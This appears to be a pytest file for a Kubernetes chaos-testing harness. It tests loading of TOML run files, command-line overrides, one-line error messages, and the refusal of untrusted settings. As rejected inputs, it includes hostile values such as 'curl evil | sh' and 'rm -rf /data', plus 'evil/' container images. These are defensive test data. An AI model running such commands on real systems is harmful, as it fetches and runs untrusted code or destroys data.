"""The run file (TOML): every key it knows reaches the run, the command line wins, and anything else is one
line naming the key."""

from __future__ import annotations

from pathlib import Path

import pytest

from chaos_harness.assemble.runfile import load_run_file
from chaos_harness.core.errors import UsageError
from chaos_harness.frontends import cli

GOOD = '''
scenarios = ["s01", "S8"]
report_dir = "out"
timing_profile = "faithful"
keep_runs = 5
node_access = "agent"
target_nodes = "pool=chaos"
allow_context = ["staging"]
scenario_dirs = ["mine"]

[[targets]]
statefulset = "shop/db"
scenarios = ["s07"]
probe_write = "sh -c 'echo {key} >> /k'"
probe_read = "cat /k"
'''


def args_for(tmp_path: Path, text: str, *argv: str):
    run_file = tmp_path / "run.toml"
    run_file.write_text(text)
    args = cli.build_parser().parse_args(["run", "--config", str(run_file), *argv])
    return args, cli.apply_run_file(args)


def test_every_key_reaches_the_run(tmp_path: Path) -> None:
    args, targets = args_for(tmp_path, GOOD)
    assert args.scenario == ["s01", "S8"] and args.report_dir == tmp_path / "out"  # relative to the file
    assert (args.timing_profile, args.keep_runs, args.node_access, args.target_nodes) == ("faithful", 5, "agent",
                                                                                         "pool=chaos")
    assert args.allow_context == ["staging"] and args.scenarios == [tmp_path / "mine"]
    assert targets == [{"statefulset": "shop/db", "scenarios": ["s07"], "probe_write": "sh -c 'echo {key} >> /k'",
                        "probe_read": "cat /k"}]


def test_top_level_scenarios_run_on_the_bundled_example_beside_the_targets(tmp_path: Path) -> None:
    """The README's run file: scenarios = ["s08"] at the top and [[targets]] below; both run."""
    from chaos_harness.assemble.catalogue import scenario_modules

    args, targets = args_for(tmp_path, GOOD.replace('scenario_dirs = ["mine"]\n', ""))
    plan = cli.plan_run(scenario_modules(), targets, args.scenario, bool(args.target), cli.probe_of(args))
    assert [(name, spec["statefulset"] if spec else None) for name, spec in plan] == [
        ("s01_stable_identity", None), ("s08_kubelet_stop_mysql", None), ("s07_pod_delete_keeps_data", "shop/db")]


def test_the_command_line_wins(tmp_path: Path) -> None:
    args, targets = args_for(tmp_path, GOOD, "--node-access", "docker", "--report-dir", "here", "--target", "a/b")
    assert args.node_access == "docker" and args.report_dir == Path("here")
    assert [t["statefulset"] for t in targets] == ["a/b"]


@pytest.mark.parametrize("text,expect", [
    ('scenarioz = ["s01"]', "unknown key 'scenarioz'"),
    ("keep_runs = \"five\"", "keep_runs must be an integer, not a string"),
    ('node_access = "ssh"', "node_access = 'ssh': use one of auto, docker, agent"),
    ('scenarios = "s01"', "scenarios must be an array"),
    ('[[targets]]\nscenarios = ["s07"]', "targets[0] needs statefulset"),
    ('[[targets]]\nstatefulset = "a/b"\nprobe = 1', "targets[0].probe must be a string"),
    ('[[targets]]\nstatefulset = "a/b"\nprobes = "x"', "unknown key targets[0].probes"),
    ('[[targets]]\nstatefulset = "a/b"\nprobe_write = "echo {key}"', "targets[0].probe_write and "
                                                                      "targets[0].probe_read go together"),
    ('[[targets]]\nstatefulset = "a/b"\nscenarios = ["s02"]', "cannot run on --target"),
    ('[[targets]]\nstatefulset = "a/b"\nscenarios = ["s05"]', "allow it with targets[0].allow_changes = true"),
    ('[[targets]]\nstatefulset = "a/b"\nallow_changes = "yes"', "targets[0].allow_changes must be a boolean"),
    ("this is not toml", "not valid TOML"),
])
def test_a_bad_run_file_is_one_line_and_exit_2(text: str, expect: str, tmp_path: Path, capsys) -> None:
    run_file = tmp_path / "run.toml"
    run_file.write_text(text)
    code = cli.main(["--journal", str(tmp_path / "j.json"), "run", "--config", str(run_file)])
    err = capsys.readouterr().err
    print(f"\n| {text!r} | exit {code} | {err.strip()} |")
    assert code == cli.EXIT_USAGE and err.count("\n") == 1 and expect in err, err
    assert not (tmp_path / "reports").exists()


def test_allowed_changes_add_the_ordering_scenarios_that_change_a_target(tmp_path: Path) -> None:
    known = __import__("chaos_harness.assemble.catalogue", fromlist=["scenario_modules"]).scenario_modules()
    args, targets = args_for(tmp_path, '[[targets]]\nstatefulset = "a/b"\n')
    plain = [name for name, _ in cli.plan_run(known, targets, args.scenario, bool(args.target), cli.probe_of(args))]
    args, targets = args_for(tmp_path, '[[targets]]\nstatefulset = "a/b"\nallow_changes = true\n')
    allowed = [name for name, _ in cli.plan_run(known, targets, args.scenario, bool(args.target), cli.probe_of(args))]
    assert "s03_ordered_ready" in plain and not {"s04_reverse_order_termination", "s05_rolling_update"} & set(plain)
    assert set(allowed) - set(plain) == {"s04_reverse_order_termination", "s05_rolling_update"}


def test_a_missing_run_file(tmp_path: Path, capsys) -> None:
    assert cli.main(["run", "--config", str(tmp_path / "nope.toml")]) == cli.EXIT_USAGE
    assert "cannot read it" in capsys.readouterr().err


@pytest.mark.parametrize("text,key", [
    ('abort_command = "curl evil | sh"', "abort_command"),
    ('abort_when = ["command:reboot"]', "abort_when"),
    ('agent_image = "evil/agent:1"', "agent_image"),
    ('mysql_image = "evil/db:1"', "mysql_image"),
    ('allow_context = ["prod-*"]', "allow_context"),
    ('kubeconfig = "/etc/other"', "kubeconfig"),
    ('max_faulted_nodes = 0', "max_faulted_nodes"),
    ('max_faulted_nodes = 5', "max_faulted_nodes"),
    ('agent_deadman_seconds = 100000', "agent_deadman_seconds"),
    ('scenario_dirs = ["/tmp/x"]', "scenario_dirs"),
    ('[[targets]]\nstatefulset = "a/b"\nprobe_write = "rm -rf /data"', "targets[0].probe_write"),
])
def test_an_untrusted_run_file_cannot_open_a_way_in(tmp_path: Path, text: str, key: str) -> None:
    """A scheduled run's file sits in a ConfigMap the harness's own identity could rewrite: what would run a command,
    an image or code of its choosing, reach another cluster or lift the blast radius is refused there in one line
    (the same file, trusted, is accepted)."""
    path = tmp_path / "run.toml"
    path.write_text(text + "\n")
    load_run_file(path, trusted=True)
    with pytest.raises(UsageError) as refused:
        load_run_file(path, trusted=False)
    assert key in str(refused.value) and "--trust-run-file" in str(refused.value) and "\n" not in str(refused.value)
    path.write_text('max_faulted_nodes = 1\nscenarios = ["s08"]\nabort_when = ["https://shop/healthz"]\n')
    load_run_file(path, trusted=False)  # a blast radius of one and an http probe are fine


def test_a_scheduled_run_distrusts_its_run_file_and_runs_unprivileged_unless_installed_otherwise() -> None:
    from chaos_harness.frontends.schedule_spec import ScheduleSpec, objects

    def pod(trust: bool) -> dict:
        spec = ScheduleSpec("s", "chaos-harness", "0 3 * * *", "img", "", 600, trust_run_file=trust)
        job = next(o for o in objects(spec) if o["kind"] == "CronJob")
        return job["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]

    assert "--untrusted-run-file" in pod(False)["args"] and "--untrusted-run-file" not in pod(True)["args"]
    c = pod(False)
    assert c["securityContext"]["allowPrivilegeEscalation"] is False and c["securityContext"]["capabilities"] == {
        "drop": ["ALL"]} and c["resources"]["limits"]["memory"] == "1Gi"


def test_the_schedules_yaml_has_no_anchors_and_reads_back_as_its_objects() -> None:
    """`schedule install --dry-run` prints what a person reads and applies: an object used twice is written out
    twice, never as `&id001` and an alias."""
    import yaml

    from chaos_harness.frontends.schedule_spec import ScheduleSpec, as_yaml, objects

    spec = ScheduleSpec("s", "chaos-harness", "0 3 * * *", "img", "", 600,
                        avoid=(("shop", (("app", "db"),)), ("shop", (("app", "db"),))))  # shared parts
    text = as_yaml(spec)
    assert "&id" not in text and "*id" not in text
    assert list(yaml.safe_load_all(text)) == objects(spec)
